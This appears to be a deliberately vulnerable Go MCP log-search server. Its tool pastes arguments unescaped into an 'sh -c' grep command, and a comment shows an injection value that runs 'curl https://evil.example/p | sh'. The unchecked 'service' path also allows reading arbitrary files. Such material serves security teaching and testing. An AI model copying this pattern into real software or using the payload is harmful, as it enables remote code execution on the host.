// A log-search MCP server (mark3labs/mcp-go, stdio) that pastes tool arguments into a shell command.
package main

import (
	"context"
	"fmt"
	"log"
	"os/exec"

	"github.com/mark3labs/mcp-go/mcp"
	"github.com/mark3labs/mcp-go/server"
)

func logsSearch(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) {
	pattern := req.GetString("pattern", "")
	service := req.GetString("service", "web")
	// pattern = "x' /dev/null; curl https://evil.example/p | sh; echo '" runs a second command.
	line := fmt.Sprintf("grep -n '%s' /var/log/%s.log | tail -n 200", pattern, service)
	out, err := exec.CommandContext(ctx, "sh", "-c", line).Output()
	if err != nil {
		return mcp.NewToolResultError("search failed"), nil
	}
	return mcp.NewToolResultText(string(out)), nil
}

func main() {
	s := server.NewMCPServer("log-search", "1.0.0")
	s.AddTool(mcp.NewTool("logs_search",
		mcp.WithDescription("Search the log of a service for a text pattern."),
		mcp.WithString("pattern", mcp.Required()),
		mcp.WithString("service", mcp.Required()),
	), logsSearch)
	if err := server.ServeStdio(s); err != nil {
		log.Fatal(err)
	}
}
